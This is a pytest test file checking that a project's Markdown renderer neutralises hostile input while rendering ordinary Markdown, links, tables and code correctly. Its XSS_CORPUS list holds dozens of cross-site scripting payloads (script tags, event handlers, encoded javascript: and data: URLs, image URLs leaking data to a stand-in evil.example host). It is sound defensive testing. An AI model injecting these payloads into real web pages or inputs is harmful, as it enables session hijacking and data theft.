"""render_markdown: normal Markdown renders; hostile Markdown and HTML come out inert."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from trooper.markdown_html import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown


class _Elements(HTMLParser):
    """Every start tag with its attributes, as the browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived in {html!r}"
        for name, value in attrs.items():
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"target", "rel"} if tag == "a" else set())
            assert name in allowed, f"attribute {name}= on <{tag}> survived in {html!r}"
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:")), f"href {value!r} survived"
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer nofollow"
            assert attrs["target"] == "_blank"


XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>overlay</p>",
    "<a href='javascript:alert(1)'>raw link</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--<img src=x onerror=alert(1)>-->",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](jav&#x0A;ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](%6A%61vascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](file:///etc/passwd)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[click](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "[click](/relative/path)",
    "[click](//evil.example/proto-relative)",
    "![x](https://evil.example/?q=secret)",
    "![x](http://evil.example/pixel.png \"tracking\")",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x][img]\n\n[img]: https://evil.example/?q=secret",
    "[![x](https://evil.example/i.png)](https://ok.example)",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\nx\n```",
    "> <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<span class=\"composer\" id=\"send\">hijack</span>",
]


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_hostile_input_renders_inert(source: str) -> None:
    html = render_markdown(source)
    assert_inert(html)
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<img" not in lowered
    assert "<iframe" not in lowered
    assert "<svg" not in lowered
    assert "evil.example" not in "".join(attrs.get("href", "") for _, attrs in elements(html))


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_remote_image_becomes_a_note_without_its_url() -> None:
    html = render_markdown("See ![the secret](https://evil.example/?q=secret)")
    assert "[image removed: the secret]" in html
    assert "evil.example" not in html


def test_image_without_alt_text_still_leaves_a_note() -> None:
    assert "[image removed]" in render_markdown("![](https://evil.example/x.png)")


def test_links_open_in_a_new_tab_without_referrer() -> None:
    html = render_markdown("[docs](https://docs.example/page?q=1)")
    assert html == (
        '<p><a href="https://docs.example/page?q=1" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n'
    )


def test_mailto_and_autolinks_are_kept() -> None:
    html = render_markdown("<https://auto.example> and [mail](mailto:a@b.example)")
    assert 'href="https://auto.example"' in html
    assert 'href="mailto:a@b.example"' in html


def test_headers_emphasis_and_lists() -> None:
    html = render_markdown("# Title\n\n## Sub\n\nSome *em*, **strong**, ~~gone~~.\n\n- one\n- two\n\n3. three\n4. four\n")
    assert "<h1>Title</h1>" in html
    assert "<h2>Sub</h2>" in html
    assert "<em>em</em>" in html and "<strong>strong</strong>" in html and "<s>gone</s>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert '<ol start="3">' in html


def test_tables_keep_alignment_as_classes() -> None:
    html = render_markdown("| name | n |\n|:-----|--:|\n| a | 1 |\n")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th class="align-left">name</th>' in html
    assert '<td class="align-right">1</td>' in html
    assert "style=" not in html


def test_code_with_a_language_is_highlighted_with_classes() -> None:
    html = render_markdown("```python\ndef f():\n    return 1\n```\n")
    assert html.startswith('<pre><code class="language-python">')
    assert '<span class="k">def</span>' in html
    assert '<span class="nf">f</span>' in html
    assert "style=" not in html


def test_code_with_an_unknown_language_is_escaped_plainly() -> None:
    html = render_markdown("```nosuchlang\n<b>x</b>\n```\n")
    assert html == '<pre><code class="language-nosuchlang">&lt;b&gt;x&lt;/b&gt;\n</code></pre>\n'


def test_inline_code_and_blockquote() -> None:
    html = render_markdown("> use `x < y`")
    assert html == "<blockquote>\n<p>use <code>x &lt; y</code></p>\n</blockquote>\n"


def test_empty_text_renders_nothing() -> None:
    assert render_markdown("") == ""


def test_a_single_newline_inside_a_paragraph_is_a_line_break() -> None:
    html = render_markdown("Line one\nLine two\n\nNext paragraph")
    assert html == "<p>Line one<br>\nLine two</p>\n<p>Next paragraph</p>\n"


def test_line_breaks_stay_sanitised_and_leave_code_blocks_alone() -> None:
    html = render_markdown("first <img src=x onerror=alert(1)>\nsecond\n\n```\na\nb\n```\n")
    assert_inert(html)
    assert "first &lt;img src=x onerror=alert(1)&gt;<br>\nsecond" in html
    assert "<pre><code>a\nb\n</code></pre>" in html
